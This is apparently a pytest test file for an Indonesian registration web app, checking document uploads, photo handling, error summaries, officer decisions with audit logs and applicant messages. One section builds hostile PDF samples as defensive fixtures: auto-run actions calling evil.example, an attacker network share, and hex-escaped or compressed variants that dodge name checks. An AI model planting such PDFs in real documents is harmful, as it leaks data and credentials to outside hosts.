"""Registration as people really use it (issue 7): PDF actions, phone photos, several files in one
submission, the error summary, the confirmation step, the audit of every officer render, the
applicant's next steps, the duplicate message, category descriptions, and the page furniture."""

from __future__ import annotations

import io
import os
import re
import zlib
from pathlib import Path

import pytest
from PIL import Image
from sqlalchemy import select

from app.core.audit import AuditEvent
from app.core.roles import Role
from app.extensions import db
from app.reference.models import Category
from app.registration.models import Registration
from tests.factories import create_person, create_registration, create_user, login, sample_file
from tests.test_uploads import (
    ACTIVE_PDF,
    NAMES_CATALOG,
    OPEN_ACTION_CATALOG,
    PAGES,
    build_pdf,
    build_pdf_with_object_stream,
    documents,
    draft,  # noqa: F401 - fixture
    pdf_with_action,
    stored_path,
    upload,
)

ROOT = Path(__file__).resolve().parent.parent


def events(app, action: str, object_id=None) -> list[AuditEvent]:
    with app.app_context():
        stmt = select(AuditEvent).where(AuditEvent.action == action)
        if object_id is not None:
            stmt = stmt.where(AuditEvent.object_id == str(object_id))
        return list(db.session.scalars(stmt.order_by(AuditEvent.id)))


def page_with_annotation(annotation: bytes) -> bytes:
    """A one-page PDF whose page carries one link annotation (object 4)."""
    page = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] /Annots [4 0 R] >>"
    return build_pdf({1: b"<< /Type /Catalog /Pages 2 0 R >>", 2: PAGES[2], 3: page, 4: annotation})


# --- 26. Automatic actions and actions reaching outside the file -------------------------------------

REFUSED_PDFS = {
    "/OpenAction /URI": lambda: pdf_with_action(b"<< /S /URI /URI (http://evil.example/x) >>"),
    "/OpenAction /GoToR to a network path": lambda: pdf_with_action(
        b"<< /S /GoToR /F (\\\\\\\\attacker\\\\share\\\\x.pdf) /D [0 /Fit] >>"
    ),
    "/OpenAction to an internal page (automatic)": lambda: pdf_with_action(b"<< /S /GoTo /D [3 0 R /Fit] >>"),
    "page /AA /SubmitForm": lambda: build_pdf(
        {
            1: b"<< /Type /Catalog /Pages 2 0 R >>",
            2: PAGES[2],
            3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] /AA << /O 4 0 R >> >>",
            4: b"<< /S /SubmitForm /F (http://evil.example/collect) >>",
        }
    ),
    "link /GoToE": lambda: page_with_annotation(
        b"<< /Type /Annot /Subtype /Link /Rect [0 0 10 10] /A << /S /GoToE /T << /R /C /N (a) >> >> >>"
    ),
    "link /ImportData": lambda: page_with_annotation(
        b"<< /Type /Annot /Subtype /Link /Rect [0 0 10 10] /A << /S /ImportData /F (x.fdf) >> >>"
    ),
    "link /URI, hex-escaped names": lambda: page_with_annotation(
        b"<< /Type /Annot /Subtype /Link /Rect [0 0 10 10] /A << /S /#55R#49 /#55RI (http://x.example) >> >>"
    ),
    "/OpenAction hex-escaped": lambda: build_pdf(
        {1: b"<< /Type /Catalog /Pages 2 0 R /Open#41ction 4 0 R >>", **PAGES, 4: b"<< /S /GoTo /D [0] >>"}
    ),
    "/URI in a Flate object stream": lambda: build_pdf_with_object_stream(
        {1: NAMES_CATALOG, **PAGES},
        {4: b"<< /Dests 5 0 R >>", 5: b"<< /S /URI /URI (http://evil.example) >>"},
    ),
}


def test_crafted_action_pdfs_hide_their_names_where_the_case_says():
    hidden = REFUSED_PDFS["/URI in a Flate object stream"]()
    assert b"/URI" not in hidden and b"/URI" in zlib.decompress(
        hidden.split(b"stream\n")[1].split(b"\nendstream")[0]
    )
    assert b"/OpenAction" not in REFUSED_PDFS["/OpenAction hex-escaped"]()
    assert b"/URI" not in REFUSED_PDFS["link /URI, hex-escaped names"]()


def test_pdfs_with_automatic_or_outside_actions_are_refused_beside_the_upload(app, client, draft):  # noqa: F811
    let_through = {}
    for case, make in REFUSED_PDFS.items():
        response = upload(client, draft.id, make(), "ktp.pdf")
        html = response.get_data(as_text=True)
        if response.status_code != 422 or ACTIVE_PDF not in html or documents(app, draft.id):
            let_through[case] = response.status_code
    assert let_through == {}


def test_plain_internal_links_and_font_subset_names_are_accepted(app, client, draft):  # noqa: F811
    internal = page_with_annotation(
        b"<< /Type /Annot /Subtype /Link /Rect [0 0 10 10] /Dest [3 0 R /Fit] /F 4 >>"
    )
    response = upload(client, draft.id, internal, "ktp.pdf")
    assert response.status_code == 302, response.get_data(as_text=True)
    goto = page_with_annotation(
        b"<< /Type /Annot /Subtype /Link /Rect [0 0 10 10] /A << /S /GoTo /D [3 0 R /Fit] >> >>"
    )
    assert upload(client, draft.id, goto, "ktp.pdf").status_code == 302
    subset_font = build_pdf(
        {
            1: b"<< /Type /Catalog /Pages 2 0 R >>",
            2: PAGES[2],
            3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] "
            b"/Resources << /Font << /F1 4 0 R >> >> >>",
            4: b"<< /Type /Font /Subtype /Type1 /BaseFont /AAAAAB+Helvetica >>",
        }
    )
    assert upload(client, draft.id, subset_font, "ktp.pdf").status_code == 302
    assert OPEN_ACTION_CATALOG  # the JavaScript /OpenAction cases stay in test_uploads.py


# --- 4. Phone photos ---------------------------------------------------------------------------------


def phone_photo(size=(4000, 3000), orientation: int = 6) -> bytes:
    """A noisy camera JPEG (several MB) whose EXIF says: rotate 90° to show upright."""
    image = Image.frombytes("RGB", size, os.urandom(size[0] * size[1] * 3))
    exif = Image.Exif()
    exif[0x0112] = orientation
    buffer = io.BytesIO()
    image.save(buffer, "JPEG", quality=92, exif=exif.tobytes())
    return buffer.getvalue()


def test_a_phone_photo_over_the_pdf_limit_is_accepted_upright_and_downscaled(app, client, draft):  # noqa: F811
    photo = phone_photo()
    assert 5 * 1024 * 1024 < len(photo) < 15 * 1024 * 1024
    response = upload(client, draft.id, photo, "IMG_2024.jpg", kind="FOTO")
    assert response.status_code == 302
    [stored] = documents(app, draft.id)
    assert stored["content_type"] == "image/jpeg" and stored["original_name"] == "IMG_2024.jpg"
    assert stored["size"] < len(photo)
    with Image.open(stored_path(app, stored["stored_name"])) as image:
        assert image.size == (1500, 2000)  # turned upright (portrait), longest side 2000 px
        assert image.getexif().get(0x0112) in (None, 1)


def test_a_big_png_scan_is_downscaled_and_small_images_are_stored_as_sent(app, client, draft):  # noqa: F811
    scan = io.BytesIO()
    Image.frombytes("RGB", (2400, 1600), os.urandom(2400 * 1600 * 3)).save(scan, "PNG")
    assert upload(client, draft.id, scan.getvalue(), "ktp.png").status_code == 302
    small = sample_file("png", size=(600, 400))
    assert upload(client, draft.id, small, "ijazah.png", kind="IJAZAH").status_code == 302
    stored = {d["kind"]: d for d in documents(app, draft.id)}
    with Image.open(stored_path(app, stored["KTP"]["stored_name"])) as image:
        assert image.size == (2000, 1333)
    assert stored_path(app, stored["IJAZAH"]["stored_name"]).read_bytes() == small


def test_photo_and_pdf_limits_are_separate_and_configurable(app, client, draft, monkeypatch):  # noqa: F811
    monkeypatch.setitem(app.config, "MAX_IMAGE_UPLOAD_MB", 1)
    response = upload(client, draft.id, phone_photo((1200, 1200)), "foto.jpg", kind="FOTO")
    assert response.status_code == 422
    assert "Ukuran foto melebihi batas 1 MB." in response.get_data(as_text=True)
    pdf = sample_file("pdf") + b"%" + b"0" * (5 * 1024 * 1024)
    response = upload(client, draft.id, pdf, "ktp.pdf")
    assert "Ukuran berkas melebihi batas 5 MB." in response.get_data(as_text=True)
    assert documents(app, draft.id) == []


# --- 6. Every chosen file in one submission ----------------------------------------------------------


def post_files(client, registration_id: int, files: dict[str, tuple[bytes, str]]):
    data = {f"file-{kind}": (io.BytesIO(content), name) for kind, (content, name) in files.items()}
    return client.post(
        f"/pendaftaran/{registration_id}/dokumen", data=data, content_type="multipart/form-data"
    )


def row(html: str, kind: str) -> str:
    match = re.search(rf'data-document="{kind}">(.*?)</li>', html, re.DOTALL)
    assert match, kind
    return match.group(1)


def test_all_chosen_files_are_uploaded_in_one_submission(app, client, draft):  # noqa: F811
    response = post_files(
        client,
        draft.id,
        {
            "KTP": (sample_file("pdf"), "ktp.pdf"),
            "FOTO": (sample_file("jpg"), "foto.jpg"),
            "IJAZAH": (sample_file("png"), "ijazah.png"),
        },
    )
    assert response.status_code == 302
    assert {d["kind"] for d in documents(app, draft.id)} == {"KTP", "FOTO", "IJAZAH"}
    html = client.get(response.location).get_data(as_text=True)
    assert "Dokumen diunggah: Pindaian KTP, Pas foto, Ijazah terakhir." in html
    form = re.search(r'<form[^>]*data-testid="documents-form".*?</form>', html, re.DOTALL).group(0)
    assert all(f'name="file-{kind}"' in form for kind in ("KTP", "FOTO", "IJAZAH", "SK_TUGAS"))
    assert form.count("<form") == 1


def test_valid_files_are_kept_when_another_file_of_the_submission_is_refused(app, client, draft):  # noqa: F811
    response = post_files(
        client,
        draft.id,
        {
            "KTP": (sample_file("pdf"), "ktp.pdf"),
            "FOTO": (b"<html>not a photo</html>", "foto.jpg"),
            "IJAZAH": (sample_file("png"), "ijazah.png"),
        },
    )
    assert response.status_code == 200  # the stored files are committed
    html = response.get_data(as_text=True)
    assert {d["kind"] for d in documents(app, draft.id)} == {"KTP", "IJAZAH"}
    summary = re.search(r'data-testid="error-summary">(.*?)</ul>', html, re.DOTALL).group(1)
    assert "Dokumen diunggah: Pindaian KTP, Ijazah terakhir." in summary
    assert "silakan pilih berkas tersebut lagi" in summary
    assert 'href="#file-FOTO"' in summary
    assert "Jenis berkas tidak diterima." in row(html, "FOTO")
    assert "Jenis berkas tidak diterima." not in row(html, "KTP")
    assert 'id="file-FOTO" name="file-FOTO"' in html and "is-invalid" in row(html, "FOTO")


def test_nothing_stored_when_every_chosen_file_is_refused(app, client, draft):  # noqa: F811
    response = post_files(client, draft.id, {"FOTO": (b"garbage", "f.jpg"), "KTP": (b"", "k.pdf")})
    assert response.status_code == 422
    html = response.get_data(as_text=True)
    assert "Tidak ada berkas yang diunggah." in html
    assert "Berkas kosong atau belum dipilih." in row(html, "KTP") or "Jenis berkas" in row(html, "FOTO")
    assert documents(app, draft.id) == []


# --- 5 and 21. The error summary; the submit button while incomplete ---------------------------------


def test_a_failed_form_starts_with_a_summary_linking_to_each_field(app, client, draft):  # noqa: F811
    response = client.post(
        f"/pendaftaran/{draft.id}/ubah",
        data={
            "relawan_kind": "NOPE",
            "registration_level": "KABKOTA",
            "region_code-1": "32",
            "region_code-2": "32.04",
        },
    )
    assert response.status_code == 422
    html = response.get_data(as_text=True)
    summary = html[html.index('data-testid="error-summary"') :]
    assert summary.index('href="#relawan_kind"') < html.index('id="relawan_kind"') - html.index(
        'data-testid="error-summary"'
    )
    assert 'tabindex="-1" data-error-summary' in html
    assert "/static/js/error-focus.js" in html


def test_submit_is_disabled_with_the_reason_while_the_draft_is_incomplete(app, client, draft):  # noqa: F811
    html = client.get(f"/pendaftaran/{draft.id}").get_data(as_text=True)
    button = re.search(r"<button[^>]*>Ajukan untuk diverifikasi</button>", html).group(0)
    assert "disabled" in button and 'aria-describedby="submit-blocked"' in button
    assert "Tombol ini aktif setelah semua yang masih kurang di atas dilengkapi." in html


# --- 7 and 29. The officer's decision ---------------------------------------------------------------


@pytest.fixture
def submitted(app):
    owner = create_user(app)
    person_id = create_person(app, user_id=owner.id)
    return owner, create_registration(app, person_id)


def officer_client(app, region="32.04"):
    client = app.test_client()
    officer = create_user(app, Role.AGENCY_OFFICER, region_code=region)
    assert login(client, officer).status_code == 302
    return officer, client


def test_verify_and_reject_ask_for_a_confirmation_saying_what_happens(app, submitted):
    _owner, rid = submitted
    _officer, client = officer_client(app)
    html = client.get(f"/pendaftaran/{rid}").get_data(as_text=True)
    verify = re.search(
        r'<details class="confirm-step" data-testid="confirm-verify">(.*?)</details>', html, re.DOTALL
    )
    assert verify and "nomor registrasi diterbitkan" in verify.group(1)
    assert '<button class="btn btn-success" type="submit" name="action" value="verify">' in verify.group(1)
    reject = re.search(r'data-testid="confirm-reject">(.*?)</details>', html, re.DOTALL).group(1)
    assert "akan ditolak" in reject and 'value="reject"' in reject
    # Only the confirmation buttons carry verify/reject: no one-click verify beside "Kembalikan".
    assert html.count('value="verify"') == 1 and html.count('value="reject"') == 1
    # A reject without a reason comes back with the reject step open and the summary linking to it.
    response = client.post(f"/pendaftaran/{rid}/putusan", data={"action": "reject"})
    assert response.status_code == 422
    html = response.get_data(as_text=True)
    assert 'data-testid="confirm-reject" open' in html and 'href="#reason"' in html


def test_decision_error_paths_audit_the_view_of_the_person(app, submitted):
    owner, rid = submitted
    officer, client = officer_client(app)
    with app.app_context():
        person_id = db.session.get(Registration, rid).person_id
    before = len(events(app, "person.viewed", person_id))
    response = client.post(f"/pendaftaran/{rid}/putusan", data={"action": "return"})
    assert response.status_code == 422
    viewed = events(app, "person.viewed", person_id)
    assert len(viewed) == before + 1 and viewed[-1].actor_id == officer.id
    assert viewed[-1].after == {"registration_id": rid}
    assert client.post(f"/pendaftaran/{rid}/putusan", data={"action": "verify"}).status_code == 302
    response = client.post(f"/pendaftaran/{rid}/putusan", data={"action": "reject", "reason": "Terlambat"})
    assert response.status_code == 409
    assert len(events(app, "person.viewed", person_id)) == before + 2
    # The owner viewing their own registration is not an officer's view.
    owner_client = app.test_client()
    login(owner_client, owner)
    owner_client.get(f"/pendaftaran/{rid}")
    assert len(events(app, "person.viewed", person_id)) == before + 2


# --- 10 and 17. Next steps for the applicant ---------------------------------------------------------


def test_dashboard_shows_each_registration_with_status_and_next_step(app, submitted):
    owner, rid = submitted
    _officer, officer = officer_client(app)
    officer.post(f"/pendaftaran/{rid}/putusan", data={"action": "return", "reason": "Foto buram."})
    client = app.test_client()
    login(client, owner)
    html = client.get("/dasbor").get_data(as_text=True)
    card = re.search(r'data-testid="registration-card">(.*?)</a>', html, re.DOTALL).group(1)
    assert "Dikembalikan" in card and "Dikembalikan — perbaiki: Foto buram." in card
    assert f'href="/pendaftaran/{rid}"' in html
    # Staff without an applicant grant see no applicant section.
    assert 'data-testid="my-registrations"' not in officer.get("/dasbor").get_data(as_text=True)


def test_a_resubmission_carries_a_note_shown_on_the_timeline(app, submitted):
    owner, rid = submitted
    _officer, officer = officer_client(app)
    officer.post(f"/pendaftaran/{rid}/putusan", data={"action": "return", "reason": "Foto buram."})
    client = app.test_client()
    login(client, owner)
    html = client.get(f"/pendaftaran/{rid}").get_data(as_text=True)
    assert "Catatan untuk petugas (tidak wajib)" in html
    too_long = client.post(f"/pendaftaran/{rid}/ajukan", data={"note": "x" * 1001})
    assert too_long.status_code == 422 and "Maksimal 1000 karakter." in too_long.get_data(as_text=True)
    assert 'href="#note"' in too_long.get_data(as_text=True)
    client.post(f"/pendaftaran/{rid}/ajukan", data={"note": "Foto sudah diganti yang jelas."})
    with app.app_context():
        registration = db.session.get(Registration, rid)
        assert registration.status == "submitted"
        assert registration.events[-1].reason == "Foto sudah diganti yang jelas."
        assert registration.decision_reason is None
    html = officer.get(f"/pendaftaran/{rid}").get_data(as_text=True)
    timeline = html[html.index('data-testid="timeline"') :]
    assert "Catatan untuk petugas: Foto sudah diganti yang jelas." in timeline


def test_a_first_submission_ignores_a_note(app, client, draft):  # noqa: F811
    post_files(
        client,
        draft.id,
        {
            "KTP": (sample_file("pdf"), "k.pdf"),
            "FOTO": (sample_file("jpg"), "f.jpg"),
            "IJAZAH": (sample_file(), "i.png"),
        },
    )
    assert "Catatan untuk petugas" not in client.get(f"/pendaftaran/{draft.id}").get_data(as_text=True)
    client.post(f"/pendaftaran/{draft.id}/ajukan", data={"note": "halo"})
    with app.app_context():
        registration = db.session.get(Registration, draft.id)
        assert registration.status == "submitted" and registration.events[-1].reason is None


def test_a_rejection_says_what_the_applicant_can_do_and_names_the_agency(app, submitted):
    owner, rid = submitted
    _officer, officer = officer_client(app)
    officer.post(f"/pendaftaran/{rid}/putusan", data={"action": "reject", "reason": "Bukan anggota."})
    client = app.test_client()
    login(client, owner)
    html = client.get(f"/pendaftaran/{rid}").get_data(as_text=True)
    after = re.search(r'data-testid="after-rejection">(.*?)</div>', html, re.DOTALL).group(1)
    assert "Mendaftar kembali dengan data yang benar" in after and 'href="/pendaftaran/baru"' in after
    assert "Dinas Sosial Kabupaten Bandung" in after
    dashboard = client.get("/dasbor").get_data(as_text=True)
    assert "Ditolak — alasan: Bukan anggota.. Anda dapat mendaftar kembali" not in dashboard
    assert "Ditolak — alasan: Bukan anggota." in dashboard and "Dinas Sosial Kabupaten Bandung" in dashboard
    # The officer does not get the applicant's next steps.
    assert 'data-testid="after-rejection"' not in officer.get(f"/pendaftaran/{rid}").get_data(as_text=True)


# --- 14 and 16. Duplicate message; category chooser --------------------------------------------------


def test_duplicate_registration_speaks_to_the_applicant_and_links_to_it(app, submitted):
    owner, rid = submitted
    client = app.test_client()
    login(client, owner)
    response = client.post(
        "/pendaftaran/baru/RELAWAN",
        data={
            "relawan_kind": "KARANG_TARUNA",
            "registration_level": "KABKOTA",
            "region_code-1": "32",
            "region_code-2": "32.04",
        },
    )
    assert response.status_code == 422
    html = response.get_data(as_text=True)
    assert "Anda sudah memiliki pendaftaran Relawan Sosial" in html and "Orang ini" not in html
    assert f'href="/pendaftaran/{rid}"' in html


def test_the_officer_keeps_the_third_person_duplicate_message(app):
    person_id = create_person(app)
    create_registration(app, person_id)
    _officer, client = officer_client(app)
    response = client.post(
        f"/pendaftaran/baru/RELAWAN?orang={person_id}",
        data={
            "relawan_kind": "KARANG_TARUNA",
            "registration_level": "KABKOTA",
            "region_code-1": "32",
            "region_code-2": "32.04",
        },
    )
    assert response.status_code == 422
    assert "Orang ini sudah memiliki pendaftaran" in response.get_data(as_text=True)


def test_category_chooser_says_who_each_category_is_for_without_english(app, client, draft):  # noqa: F811
    html = client.get("/pendaftaran/baru").get_data(as_text=True)
    with app.app_context():
        categories = list(db.session.scalars(select(Category)))
    descriptions = re.findall(r'data-testid="category-description">(.*?)</p>', html)
    assert len(descriptions) == len(categories) and all(d.startswith("Untuk ") for d in descriptions)
    assert not any(c.name_en and c.name_en in html for c in categories if c.name_en != c.name)


# --- 19. No inline styles; a favicon ----------------------------------------------------------------


def test_no_inline_style_in_any_template_and_the_favicon_is_served(client):
    inline = [str(p) for p in (ROOT / "templates").rglob("*.html") if "style=" in p.read_text()]
    assert inline == []
    html = client.get("/").get_data(as_text=True)
    icon = re.search(r'<link rel="icon" href="([^"]+)"', html).group(1)
    response = client.get(icon)
    assert response.status_code == 200 and b"<svg" in response.get_data()
